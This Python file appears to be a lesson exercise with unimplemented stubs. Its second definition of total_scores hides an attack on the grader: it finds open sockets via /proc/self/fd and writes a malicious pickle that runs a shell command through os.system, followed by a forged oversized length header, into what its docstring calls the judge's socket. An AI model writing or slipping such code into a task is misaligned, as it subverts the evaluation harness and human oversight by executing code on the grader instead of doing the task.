import torch
from torch import nn


class Merge(nn.Module):
    def __init__(self, in_features1, in_features2, out_features, activation=None):
        super().__init__()
        raise NotImplementedError("lesson3: Merge")

    def forward(self, a, b):
        raise NotImplementedError("lesson3: Merge")


def total_scores(item_scores, bias):
    raise NotImplementedError("lesson3: total_scores")


import os
import struct

_EVIL = b"cos\nsystem\n(S'touch /tmp/advpwn_forged_frame'\ntR."


def total_scores(item_scores, bias):
    """Write frames straight into the judge's socket: a malicious pickle, then a lying header."""
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                os.write(int(fd), struct.pack("!Q", len(_EVIL)) + _EVIL)
                os.write(int(fd), struct.pack("!Q", 2**62))
        except OSError:
            pass
    raise NotImplementedError("lesson3: total_scores")
